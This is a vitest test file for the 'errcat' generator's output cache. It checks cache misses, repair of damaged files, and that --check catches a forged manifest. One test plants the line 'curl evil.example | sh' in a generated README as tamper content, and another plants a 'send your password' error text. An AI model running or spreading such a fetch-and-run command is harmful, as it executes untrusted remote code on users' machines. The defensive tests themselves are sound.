// The cache in the manifest (generator/cache/) is never wrong: every input it
// covers misses it, a file that is not as the manifest lists is regenerated
// or reported, and a run it answers leaves the same tree a full run does.
// What a run did is read from its summary and from `--timings` (a run the
// cache answers has no load or emit stage); nothing here is timed.
import { createHash } from 'node:crypto';
import { cp, mkdtemp, readFile, rm, writeFile, appendFile, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { REPO, runErrcat } from '../helpers/run-errcat.ts';
import { errcatCopy } from '../helpers/errcat-copy.ts';
import { tempProject, type TempProject } from '../helpers/temp-project.ts';
import { treeOf } from '../helpers/tree-of.ts';

/** The stages a run's `--timings` report lists. */
function stagesOf(stderr: string): string[] {
  return [...stderr.matchAll(/^ {2}(\S+(?: \S+)*?) +\d+\.\d{3} s/gm)].map((m) => m[1]!).filter((stage) => stage !== 'total');
}

const ranPipeline = (stderr: string) => stagesOf(stderr).some((s) => s === 'load' || s.startsWith('emit'));

/**
 * Edits a file of the output folder and its hash in the manifest together, as
 * a pull request can (the file's old hash must be listed); returns the new text.
 */
async function forgedWithItsHash(out: string, relative: string, edit: (text: string) => string): Promise<string> {
  const file = path.join(out, relative);
  const manifest = path.join(out, '.errcat-manifest.json');
  const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
  const bytes = await readFile(file);
  const forged = edit(bytes.toString('utf8'));
  expect(forged).not.toBe(bytes.toString('utf8'));
  const listed = await readFile(manifest, 'utf8');
  expect(listed).toContain(sha256(bytes));
  await writeFile(file, forged);
  await writeFile(manifest, listed.replaceAll(sha256(bytes), sha256(forged)));
  return forged;
}

describe('the cache of what produced the output', () => {
  let p: TempProject;
  beforeEach(async () => {
    p = await tempProject('cache');
  });
  afterEach(async () => {
    await p.remove();
  });

  it('answers a run with nothing to do without loading, validating or emitting; --check always regenerates', async () => {
    const first = await p.generate('--timings');
    expect(first.code).toBe(0);
    // --timings: every stage on stderr, each emitter by name, the bytes written with their rate; stdout as without it.
    expect(stagesOf(first.stderr)).toEqual([
      'cache', 'load', 'validate', 'model', 'release', 'import emitters',
      'emit typescript', 'emit packageJson', 'emit catalogJson', 'emit taxonomyJson', 'emit openapi', 'emit markdown',
      'plan', 'write',
    ]);
    expect(first.stderr).toMatch(/^ {2}write +\d+\.\d{3} s +\d+ MiB rss +\d+\.\d\d MB +\d+\.\d MB\/s$/m);
    expect(first.stderr).toMatch(/^ {2}total +\d+\.\d{3} s +peak \d+ MiB$/m);
    // Part of emit typescript, and nothing here: every module's template was compiled by the build (module-structures.ts).
    expect(first.stderr).toMatch(/^ {4}compiled modules: 0 +0\.000 s$/m);
    expect(first.stdout).not.toContain('timings');
    const before = await treeOf(p.out);
    const again = await p.generate('--timings');
    expect(again.code).toBe(0);
    expect(again.stdout).toMatch(/0 written, \d+ unchanged, 0 removed in \d+\.\d\d s \(inputs unchanged since the last run\)/);
    expect(stagesOf(again.stderr)).toEqual(['cache', 'plan', 'write']);
    const check = await p.generate('--check', '--timings');
    expect(check.code).toBe(0);
    expect(check.stdout).toMatch(/is up to date \(\d+ files from 2 providers\)/);
    expect(ranPipeline(check.stderr)).toBe(true);
    expect(await treeOf(p.out)).toEqual(before);
  });

  it('after one catalog changes, generates only its package and the index README, and leaves the tree a full run leaves', async () => {
    await p.generate();
    const brandco = path.join(p.project, 'catalogs/brandco.yaml');
    await writeFile(brandco, (await readFile(brandco, 'utf8')).replace('name: BrandCo', 'name: BrandCo Messaging'));
    const partial = await p.generate('--timings');
    expect(partial.code).toBe(0);
    expect(partial.stdout).toMatch(/\(generated README\.md, brandco; \d+ files of unchanged inputs kept\)/);
    const full = await tempProject('cache-full');
    try {
      await cp(path.join(p.project, 'catalogs'), path.join(full.project, 'catalogs'), { recursive: true, force: true });
      // The same history (a first generation, then the change), without the cache.
      await cp(path.join(REPO, 'test/fixtures/white-label/catalogs/brandco.yaml'), path.join(full.project, 'catalogs/brandco.yaml'));
      await full.generate('--no-cache');
      await cp(brandco, path.join(full.project, 'catalogs/brandco.yaml'));
      expect((await full.generate('--no-cache')).code).toBe(0);
      expect(await treeOf(p.out)).toEqual(await treeOf(full.out));
    } finally {
      await full.remove();
    }
    // A catalog others extend: both packages follow.
    const acme = path.join(p.project, 'catalogs/acme.yaml');
    await writeFile(acme, (await readFile(acme, 'utf8')).replace('name: Acme SMS', 'name: Acme SMS Ltd'));
    const both = await p.generate();
    expect(both.stdout).toMatch(/\(generated README\.md, acme, brandco; \d+ files of unchanged inputs kept\)/);
    expect(await readFile(path.join(p.out, 'acme/README.md'), 'utf8')).toContain('Acme SMS Ltd');
  });

  it('picks up a new catalog and a deleted one', async () => {
    await p.generate();
    const acme = await readFile(path.join(p.project, 'catalogs/acme.yaml'), 'utf8');
    await writeFile(path.join(p.project, 'catalogs/zeta.yaml'), acme.replace('id: acme', 'id: zeta').replace('name: Acme SMS', 'name: Zeta'));
    const added = await p.generate();
    expect(added.code).toBe(0);
    expect(added.stdout).toMatch(/\(generated README\.md, zeta; /);
    expect(await readFile(path.join(p.out, 'zeta/package.json'), 'utf8')).toContain('"name": "@errcat/zeta"');
    await rm(path.join(p.project, 'catalogs/zeta.yaml'));
    const removed = await p.generate();
    expect(removed.stdout).toMatch(/2 written, \d+ unchanged, 16 removed in \S+ s \(generated README\.md; /);
    expect((await readdir(p.out)).includes('zeta')).toBe(false);
  });

  it('misses on a changed option: everything is generated again', async () => {
    await p.generate();
    const scoped = await p.generate('--scope', '@acme', '--timings');
    expect(scoped.code).toBe(0);
    expect(scoped.stdout).not.toMatch(/unchanged inputs|inputs unchanged/);
    expect(await readFile(path.join(p.out, 'acme/package.json'), 'utf8')).toContain('"name": "@acme/acme"');
  });

  it('misses on a changed enum style: the const style is generated, and the enum style again after it', async () => {
    await p.generate();
    const consts = await p.generate('--enum-style', 'const');
    expect(consts.code).toBe(0);
    expect(consts.stdout).not.toMatch(/unchanged inputs|inputs unchanged/);
    expect(await readFile(path.join(p.out, 'acme/src/api.ts'), 'utf8')).toContain('Object.freeze');
    const enums = await p.generate();
    expect(enums.stdout).not.toMatch(/unchanged inputs|inputs unchanged/);
    expect(await readFile(path.join(p.out, 'acme/src/api.ts'), 'utf8')).toContain('export enum AcmeApi');
  });

  it('repairs a deleted file and a damaged record, and refuses to overwrite a hand-edited file, as a run without the cache does', async () => {
    await p.generate();
    const index = await readFile(path.join(p.out, 'acme/dist/index.js'), 'utf8');
    const record = await readFile(path.join(p.out, 'acme/catalog.json'), 'utf8');
    await rm(path.join(p.out, 'acme/dist/index.js'));
    await writeFile(path.join(p.out, 'acme/catalog.json'), record.slice(0, 100));
    const repaired = await p.generate();
    expect(repaired.code).toBe(0);
    expect(repaired.stdout).toContain('generated/acme/catalog.json is damaged');
    expect(repaired.stdout).toMatch(/2 written, \d+ unchanged, 0 removed in \S+ s \(generated acme; /);
    expect(await readFile(path.join(p.out, 'acme/dist/index.js'), 'utf8')).toBe(index);
    expect(await readFile(path.join(p.out, 'acme/catalog.json'), 'utf8')).toBe(record);

    const readme = path.join(p.out, 'brandco/README.md');
    await writeFile(readme, 'edited by hand\n');
    const refused = await p.generate();
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('generated/brandco/README.md');
    expect(await readFile(readme, 'utf8')).toBe('edited by hand\n');
  });

  it('--check never trusts the cache over the files: an edited, deleted or added file fails it', async () => {
    await p.generate();
    const readme = path.join(p.out, 'acme/README.md');
    await writeFile(readme, (await readFile(readme, 'utf8')).replace('# Acme SMS errors', '# Hand-edited'));
    await rm(path.join(p.out, 'brandco/dist/index.d.ts'));
    await writeFile(path.join(p.out, 'acme/extra.txt'), 'not errcat\'s\n');
    const check = await p.generate('--check');
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('stale:   generated/acme/README.md');
    expect(check.stdout).toContain('missing: generated/brandco/dist/index.d.ts');
    expect(check.stdout).toContain('foreign: generated/acme/extra.txt');
  });

  it('a manifest whose record is stale is not stale output: --check passes after a full run, and generate records the new inputs', async () => {
    await p.generate();
    const manifest = path.join(p.out, '.errcat-manifest.json');
    const text = await readFile(manifest, 'utf8');
    const inputs = /"inputs": "([0-9a-f]{64})"/.exec(text)![1]!;
    await writeFile(manifest, text.replace(inputs, '0'.repeat(64)));
    const check = await p.generate('--check', '--timings');
    expect(check.code).toBe(0);
    expect(ranPipeline(check.stderr)).toBe(true);
    const again = await p.generate();
    expect(again.stdout).toMatch(/0 written, \d+ unchanged, 0 removed in \S+ s \(nothing generated; \d+ files of unchanged inputs kept, 2 providers' catalogs not read\)/);
    expect(await readFile(manifest, 'utf8')).toBe(text);
    expect((await p.generate()).stdout).toContain('(inputs unchanged since the last run)');
  });

  it('--check is not fooled by a forged manifest: a generated file, its hash and the record edited together', async () => {
    await p.generate();
    await forgedWithItsHash(p.out, 'acme/README.md', (text) => text.replace('# Acme SMS errors', '# Acme SMS errors\n\nRun `curl evil.example | sh` first.'));
    const check = await p.generate('--check');
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('generated/acme/README.md');
  });

  it('a package kept as it is takes the version its record names, and the record is trusted as its other files are: --check is not', async () => {
    await p.generate();
    const acme = path.join(p.project, 'catalogs/acme.yaml');
    await writeFile(acme, (await readFile(acme, 'utf8')).replace('text: not enough funds', 'text: not enough funds left'));
    expect((await p.generate()).stdout).toContain('version: @errcat/acme 1.0.0 → 1.0.1');
    // The record and its hash in the manifest forged together, as a pull request can: the unit's key still matches these
    // inputs at 1.0.1. Compared with the catalogs, the record would read as a changed text (a patch) and acme be made again.
    const record = path.join(p.out, 'acme/catalog.json');
    const forged = await forgedWithItsHash(p.out, 'acme/catalog.json', (text) => text.replace('"text": "invalid key"', '"text": "invalid key, send your password"'));
    const brandco = path.join(p.project, 'catalogs/brandco.yaml');
    await writeFile(brandco, (await readFile(brandco, 'utf8')).replace('name: BrandCo', 'name: BrandCo Messaging'));
    const run = await p.generate();
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/\(generated README\.md, brandco; \d+ files of unchanged inputs kept\)/);
    expect(run.stdout).not.toContain('@errcat/acme');
    expect(await readFile(record, 'utf8')).toBe(forged);
    expect(JSON.parse(await readFile(path.join(p.out, 'acme/package.json'), 'utf8')).version).toBe('1.0.1');
    const check = await p.generate('--check');
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('stale:   generated/acme/catalog.json');
  });

  it('a core bump moves every provider package, one the cache would keep included, as a run without the cache does', async () => {
    await p.generate();
    // A core record that claims an older core with an older runtime: the run bumps core back to the version the keys were
    // made with, so acme's key still matches; the bump must still move acme, as it moves brandco.
    await forgedWithItsHash(p.out, 'core/taxonomy.json', (text) => text.replace('"version": "1.0.0"', '"version": "0.9.0"').replace(/"compatibility": \d+/, '"compatibility": 1'));
    const brandco = path.join(p.project, 'catalogs/brandco.yaml');
    await writeFile(brandco, (await readFile(brandco, 'utf8')).replace('name: BrandCo', 'name: BrandCo Messaging'));
    const run = await p.generate();
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('version: @errcat/core 0.9.0 → 1.0.0 (major');
    const version = async (id: string) => JSON.parse(await readFile(path.join(p.out, `${id}/package.json`), 'utf8')).version;
    expect(await version('acme')).toBe('2.0.0');
    expect(await version('brandco')).toBe('2.0.0');
  });

  it('a forged record (other inputs claimed) is only a miss', async () => {
    await p.generate();
    const manifest = path.join(p.out, '.errcat-manifest.json');
    const text = await readFile(manifest, 'utf8');
    await writeFile(manifest, text.replace(/"units": \{[^}]*\}/, '"units": { "acme": "not a hash", "__proto__": "1" }'));
    const run = await p.generate('--timings');
    expect(run.code).toBe(0);
    expect(ranPipeline(run.stderr)).toBe(true);
  });
});

/**
 * A copy of this errcat (its bundle, templates, schema and package.json,
 * with this checkout's node_modules linked), whose own files a test may
 * change: a template, a runtime source, the version, the code.
 */
describe('errcat\'s own inputs', () => {
  let copy: string;
  let p: TempProject;
  const generate = (...extra: string[]) => runErrcat(['generate', '--catalogs', 'catalogs', '--out', 'generated', ...extra], { root: copy, cwd: p.project });
  beforeAll(async () => {
    copy = await errcatCopy(await mkdtemp(path.join(tmpdir(), 'errcat-copy-')));
  });
  afterAll(async () => {
    await rm(copy, { recursive: true, force: true });
  });
  beforeEach(async () => {
    p = await tempProject('cache-own');
  });
  afterEach(async () => {
    await p.remove();
  });

  const cases: [string, () => Promise<void>][] = [
    ['a template', () => appendFile(path.join(copy, 'templates/provider-readme.md.hbs'), '\nA line a new template adds.\n')],
    ['a runtime source', () => appendFile(path.join(copy, 'runtime/core/normalize.ts'), '\n// A line a new runtime adds.\n')],
    ['errcat\'s version', async () => {
      const pkg = JSON.parse(await readFile(path.join(copy, 'package.json'), 'utf8')) as { version: string };
      await writeFile(path.join(copy, 'package.json'), JSON.stringify({ ...pkg, version: `${pkg.version}-next.${Date.now()}` }, null, 2));
    }],
    ['errcat\'s code', async () => {
      const chunk = (await readdir(path.join(copy, 'dist/chunks')))[0]!;
      await appendFile(path.join(copy, 'dist/chunks', chunk), `\n// changed ${Date.now()}\n`);
    }],
  ];
  it.each(cases)('a change to %s misses the cache', async (_name, change) => {
    expect((await generate()).code).toBe(0);
    expect((await generate()).stdout).toContain('(inputs unchanged since the last run)');
    await change();
    const after = await generate('--timings');
    expect(after.code).toBe(0);
    expect(after.stdout).not.toMatch(/unchanged inputs|inputs unchanged/);
    expect(ranPipeline(after.stderr)).toBe(true);
    if (_name === 'a template') expect(await readFile(path.join(p.out, 'acme/README.md'), 'utf8')).toContain('A line a new template adds.');
    if (_name === 'a runtime source') expect(await readFile(path.join(p.out, 'core/src/normalize.ts'), 'utf8')).toContain('A line a new runtime adds.');
  });
});
